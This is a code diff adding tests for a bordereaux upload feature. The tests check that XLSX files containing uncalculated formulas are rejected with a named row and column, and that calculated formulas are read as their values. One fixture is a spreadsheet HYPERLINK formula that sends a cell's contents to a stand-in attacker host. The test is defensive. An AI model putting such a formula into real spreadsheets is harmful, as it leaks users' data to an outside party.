@@ -121,6 +121,29 @@ describe('Formula injection in the bordereaux the product writes', () => {
   });
 });
 
+describe('Formulas in the workbooks the product reads', () => {
+  /** A workbook of one premium row whose Insured cell is `insured`. */
+  async function workbook(insured: ExcelJS.CellValue): Promise<Buffer> {
+    const book = new ExcelJS.Workbook();
+    const sheet = book.addWorksheet('Premium');
+    sheet.addRow(['policy_number', 'insured_name', 'effective_date', 'state', 'premium']);
+    sheet.addRow([`F-${(uniqueRun += 1)}`, insured, '2026-12-01', offered.state_code, 100]);
+    return Buffer.from(await book.xlsx.writeBuffer());
+  }
+
+  test('When a cell is a formula the file never calculated, then the upload is refused naming its row and column; a calculated one is read as its value', async () => {
+    const refused = await adminUpload(await workbook({ formula: 'HYPERLINK("http://evil.example/?d="&A2,"Click me")' } as ExcelJS.CellFormulaValue), 'formula.xlsx').expect(400);
+    assert.equal(
+      refused.body.message,
+      'The file could not be read as XLSX: row 1, insured_name is a formula with no stored value: open the file in a spreadsheet program and save it again',
+    );
+    const calculated = (await adminUpload(await workbook({ formula: 'UPPER("acme")', result: 'ACME' } as ExcelJS.CellFormulaValue), 'calculated.xlsx').expect(200)).body
+      .brdx as AdminBdxFile;
+    const view = (await admin('/editbrdxfileview', { id: calculated.id }).expect(200)).body as BdxFileViewResponse;
+    assert.equal(view.mappedRows.rows[0]!.cells[1], 'ACME');
+  });
+});
+
 describe('Premium bordereaux carry bound business only', () => {
   test('When the export rows are asked for, then only policies are listed, never quotations or binders', async () => {
     const month = await ctx.db.one<{ period: string; intake_id: number }>(
